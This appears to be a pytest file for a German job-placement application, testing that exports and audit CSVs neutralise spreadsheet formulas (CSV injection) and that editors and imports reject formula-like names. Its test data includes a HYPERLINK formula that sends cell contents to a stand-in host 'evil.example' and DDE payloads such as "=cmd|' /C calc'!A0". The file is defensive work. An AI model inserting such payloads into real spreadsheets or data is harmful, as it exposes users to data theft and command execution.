"""No export leaves a live spreadsheet formula (OWASP CSV injection); editors refuse formula names.

The hostile texts are those of issue 17: an imported cell `=HYPERLINK(…)` or `=cmd|' /C calc'!A0`
came out of `srek-desk export` as a real XLSX formula and as a CSV cell starting with `=`, and the
audit CSV wrote a client first name `=HYPERLINK(…)` unescaped.
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
from openpyxl import load_workbook

from srek_desk.importers.export import neutralise_formula, safe_csv_writer, write_offers
from srek_desk.importers.offer_table import OFFER_COLUMNS
from srek_desk.importers.reader import read_import_file
from srek_desk.importers.tabular import FORMULA_STARTS, is_formula
from srek_desk.services.clients.values import ClientInput, validate_client
from srek_desk.services.offers.employers import EmployerInput, validate_employer
from srek_desk.services.statistics.service import CountRow, MonthRow, Statistics, to_csv

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Klick")'
HOSTILE = (
    HYPERLINK,
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
LABELS = [column.label for column in OFFER_COLUMNS]


def hostile_offers() -> list[dict[str, Any]]:
    """One offer per hostile text, in the fields an import fills from a file's cells."""
    return [
        {
            "reference": f"X-{number}",
            "offer_type": "ausbildung",
            "title": text,
            "employer_name": text,
            "contact_name": text,
            "place": "Kassel",
            "postcode": "34117",
            "lat": -3.5,  # a real negative number: it must stay a number
            "lon": 9.5,
            "start_date": date(2027, 8, 1),
        }
        for number, text in enumerate(HOSTILE, 1)
    ]


def csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


def test_a_spreadsheet_formula_is_told_from_a_number() -> None:
    for text in HOSTILE:
        assert is_formula(text), repr(text)
        assert neutralise_formula(text) == "'" + text
    for number in ("-3,5", "-12", "+49", "1.234,50", "-0.25"):
        assert not is_formula(number) and neutralise_formula(number) == number
    for plain in ("Müller", "Anne-Marie", "Mechatroniker/in (m/w/d)", "", " =x"):
        assert neutralise_formula(plain) == plain
    assert neutralise_formula(-3.5) == -3.5 and neutralise_formula(None) is None
    assert set(FORMULA_STARTS) == {"=", "+", "-", "@", "\t", "\r"}


def test_offer_xlsx_export_has_no_formula_and_keeps_numbers(tmp_path: Path) -> None:
    target = tmp_path / "angebote.xlsx"
    assert write_offers(target, hostile_offers()) == len(HOSTILE)
    sheet = load_workbook(target).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [cell for cell in cells if cell.data_type == "f"] == []
    title, lat = LABELS.index("Titel") + 1, LABELS.index("Breitengrad") + 1
    for line, text in enumerate(HOSTILE, 2):
        cell = sheet.cell(line, title)
        # XML reads a lone CR as a line feed: still text, never a formula
        expected = text.replace("\r", "\n")
        assert (cell.value, cell.data_type, cell.quotePrefix) == (expected, "s", True)
        number = sheet.cell(line, lat)
        assert (number.value, number.data_type) == (-3.5, "n")


def test_offer_csv_export_neutralises_every_formula_cell(tmp_path: Path) -> None:
    target = tmp_path / "angebote.csv"
    write_offers(target, hostile_offers())
    rows = csv_rows(target.read_bytes().decode("utf-8-sig"))
    assert rows[0] == LABELS
    title, employer, lat = (LABELS.index(x) for x in ("Titel", "Arbeitgeber", "Breitengrad"))
    for row, text in zip(rows[1:], HOSTILE, strict=True):
        assert row[title] == row[employer] == "'" + text
        assert row[lat] == "-3,500000"  # a negative number is written as the number it is
    starts = [cell for row in rows for cell in row if is_formula(cell)]
    assert starts == []


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_neutralised_export_imports_back_to_the_same_text(tmp_path: Path, reference, kind) -> None:  # type: ignore[no-untyped-def]
    target = tmp_path / f"angebote.{kind}"
    write_offers(target, hostile_offers())
    batch = read_import_file(target, reference)
    # "\t=1+1" and "\r=1+1" are cleaned on import like any leading white space
    assert [offer.title for offer in batch.offers] == [text.strip() for text in HOSTILE]


def test_statistics_csv_neutralises_labels() -> None:
    stats = Statistics(
        generated_at=datetime(2026, 12, 1, tzinfo=UTC),
        offers_by_state=(CountRow("HE", "Hessen", 12),),
        offers_by_type=(CountRow("x", HYPERLINK, None),),
        offers_by_area=(CountRow("2", "-2+3+cmd|' /C calc'!A0", 7),),
        proposals=5,
        proposals_crossing_border=None,
        placements=None,
        placements_crossing_border=None,
        outcomes_by_month=(MonthRow("2026-12", {}),),
    )
    rows = csv_rows(to_csv(stats))
    assert ["Aktive Angebote nach Art", "'" + HYPERLINK, "<5"] in rows
    assert ["Aktive Angebote nach Berufsbereich", "'-2+3+cmd|' /C calc'!A0", "7"] in rows
    assert ["Aktive Angebote nach Bundesland", "Hessen", "12"] in rows
    assert [cell for row in rows for cell in row if is_formula(cell)] == []


def test_audit_csv_neutralises_a_client_named_as_a_formula() -> None:
    from srek_desk.ui.models.rows_model import Column, RowsModel
    from srek_desk.ui.pages.admin_audit import rows_as_csv

    model = RowsModel(
        [
            Column("Anmeldename", lambda e: e.user_name),
            Column("Klient:in", lambda e: e.client_name),
            Column("Details", lambda e: e.detail),
        ]
    )
    line = SimpleNamespace(user_name="berater1", client_name=HYPERLINK, detail="@SUM(1+1)")
    rows = csv_rows(rows_as_csv(model, [line]))
    assert rows == [
        ["Anmeldename", "Klient:in", "Details"],
        ["berater1", "'" + HYPERLINK, "'@SUM(1+1)"],
    ]


def test_safe_writer_quotes_what_csv_needs_and_keeps_numbers() -> None:
    out = io.StringIO()
    writer = safe_csv_writer(out)
    writer.writerow(["=1;2", -4, 2.5, "a\r\nb", "\r=1"])
    assert csv_rows(out.getvalue()) == [["'=1;2", "-4", "2.5", "a\r\nb", "'\r=1"]]


@pytest.mark.parametrize(
    ("field", "value", "start"),
    [
        ("first_name", HYPERLINK, "„=“"),
        ("last_name", "@SUM(1+1)", "„@“"),
        ("first_name", "+1+1", "„+“"),
        ("last_name", "-2+3+cmd|' /C calc'!A0", "„-“"),
        ("first_name", "\t=1", "einem Tabulator"),
    ],
)
def test_client_editor_refuses_a_name_that_is_a_formula(reference, field, value, start) -> None:  # type: ignore[no-untyped-def]
    data = ClientInput(customer_number="KD-1", first_name="Lena", last_name="Muster")
    errors = validate_client(
        ClientInput(**{**_fields(data), field: value}), reference, today=date(2026, 12, 1)
    )
    assert [e.field for e in errors] == [field]
    label = "Der Vorname" if field == "first_name" else "Der Nachname"
    assert errors[0].message.startswith(f"{label} darf nicht mit {start} beginnen")
    assert "Formel" in errors[0].message


def test_real_names_are_accepted(reference) -> None:  # type: ignore[no-untyped-def]
    for first, last in (
        ("Anne-Marie", "Özdemir-Schulz"),
        ("Jürgen", "Müller"),
        ("Ayşe", "O'Neill"),
    ):
        data = ClientInput(first_name=first, last_name=last)
        assert validate_client(data, reference, today=date(2026, 12, 1)) == []


def test_employer_editor_refuses_a_formula_name(reference) -> None:  # type: ignore[no-untyped-def]
    errors = validate_employer(EmployerInput(name="=cmd|' /C calc'!A0"), reference)
    assert [e.field for e in errors] == ["name"]
    assert errors[0].message.startswith("Der Name des Arbeitgebers darf nicht mit „=“ beginnen")
    assert validate_employer(EmployerInput(name="Müller & Söhne GmbH"), reference) == []


def _fields(data: ClientInput) -> dict[str, Any]:
    return {name: getattr(data, name) for name in data.__slots__}


def test_client_import_refuses_rows_whose_name_is_a_formula(tmp_path: Path, reference) -> None:  # type: ignore[no-untyped-def]
    path = tmp_path / "klienten.csv"
    path.write_text(
        "Kundennummer;Vorname;Nachname;PLZ\n"
        "KD-1;=cmd|' /C calc'!A0;Muster;34117\n"
        "KD-2;Lena;@SUM(1+1);34117\n"
        "KD-3;Anne-Marie;Özdemir-Schulz;34117\n",
        encoding="utf-8",
    )
    batch = read_import_file(path, reference, kind="clients")
    assert [client.customer_number for client in batch.clients] == ["KD-3"]
    assert [error.message for error in batch.errors] == [
        "Zeile 2, Spalte „Vorname“: ein Name darf nicht mit „=“ beginnen (Tabellenprogramme wie "
        "Excel würden ihn in einer Liste als Formel ausführen)",
        "Zeile 3, Spalte „Nachname“: ein Name darf nicht mit „@“ beginnen (Tabellenprogramme wie "
        "Excel würden ihn in einer Liste als Formel ausführen)",
    ]
